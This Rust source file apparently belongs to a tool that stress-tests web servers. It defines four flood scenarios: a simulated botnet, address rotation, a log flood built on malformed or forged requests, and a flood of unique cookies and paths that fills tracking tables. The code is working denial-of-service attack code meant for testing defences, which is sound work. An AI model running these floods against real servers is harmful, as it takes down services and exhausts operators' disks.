//! A22, A25, A30 and A31: each request is harmless; the number of addresses, keys or log lines is
//! the attack.

use super::flood::{connect_and_get, paced};
use super::forwarded::proxy_header;
use super::{EACH, Needs, Scenario};
use crate::addresses::Spread;
use crate::attack::{Attack, at_rate, hold};
use crate::dice::roll;
use crate::h1::{Reader, head};
use crate::scenario::flood::ask;
use std::sync::Arc;
use tokio::io::AsyncWriteExt as _;

/// The scenarios of this family.
pub(super) const ALL: &[Scenario] = &[
    Scenario {
        name: "botnet",
        vector: "A22",
        what: "5,000 addresses, each with a request per second on a kept connection",
        needs: Needs::H1,
        connections: 5_000,
        rate: 5_000,
        addresses: EACH,
        spread: Spread::Wide,
        run: |attack| Box::pin(hold(attack, bot)),
    },
    Scenario {
        name: "net-rotation",
        vector: "A25",
        what: "a new address of the same network for each connection; IPv6 with --namespace",
        needs: Needs::H1,
        connections: 500,
        rate: 500,
        addresses: 10_000,
        spread: Spread::Packed,
        run: |attack| Box::pin(at_rate(attack, connect_and_get)),
    },
    Scenario {
        name: "log-flood",
        vector: "A30",
        what: "everything that servers log, at a rate; --watch shows the use of the disk",
        needs: Needs::H1,
        connections: 500,
        rate: 2_000,
        addresses: 5_000,
        spread: Spread::Wide,
        run: |attack| Box::pin(at_rate(attack, complaint)),
    },
    Scenario {
        name: "tracker-keys",
        vector: "A31",
        what: "a new address, path, cookie and name in each request",
        needs: Needs::H1,
        connections: 1_000,
        rate: 3_000,
        addresses: 200_000,
        spread: Spread::Wide,
        run: |attack| Box::pin(at_rate(attack, new_keys)),
    },
];

async fn bot(attack: Arc<Attack>, n: usize) {
    paced(attack, n, |attack: &Attack, unique| {
        let path = format!("{}?page={}", attack.path_or("/"), unique % 1_000);
        head("GET", &path, attack.host(), "").into_bytes()
    })
    .await;
}

/// Sends something to log: no HTTP, half of it, too much of it, an unknown host, a forged header.
async fn complaint(attack: Arc<Attack>, n: usize) {
    let Some(mut wire) = attack.open(n).await else { return };
    let host = attack.host();
    let out = match n % 6 {
        0 => b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".to_vec(),
        1 => format!("GET /{} HTTP/9.9\r\n\r\n", "\u{7f}".repeat(200)).into_bytes(),
        2 => head("GET", "/", "nobody.invalid", "").into_bytes(),
        3 => head("GET", &format!("/{n}"), host, "Content-Length: x\r\n").into_bytes(),
        4 => proxy_header(n).1,
        _ => head("POST", "/", host, "Content-Length: 100000\r\n").into_bytes(),
    };
    attack.tally.requests.one();
    if wire.write_all(&out).await.is_err() {
        return;
    }
    if n % 6 == 5 {
        // Leaves in the middle of the body.
        return;
    }
    match Reader::new().answer(&mut wire, false).await {
        Ok(answer) => attack.tally.answer(answer.status),
        Err(_) => attack.tally.event("no answer"),
    }
}

async fn new_keys(attack: Arc<Attack>, n: usize) {
    let Some(mut wire) = attack.open(n).await else { return };
    let key = roll(n as u64);
    let fields = format!(
        "Connection: close\r\nCookie: session={key:016x}\r\nX-{key:x}: {key}\r\n\
         Referer: https://{key:x}.example/\r\n"
    );
    let path = format!("/{key:016x}/page?q={key}");
    let request = head("GET", &path, attack.host(), &fields).into_bytes();
    let _answer = ask(&attack, &mut wire, &mut Reader::new(), &request).await;
}
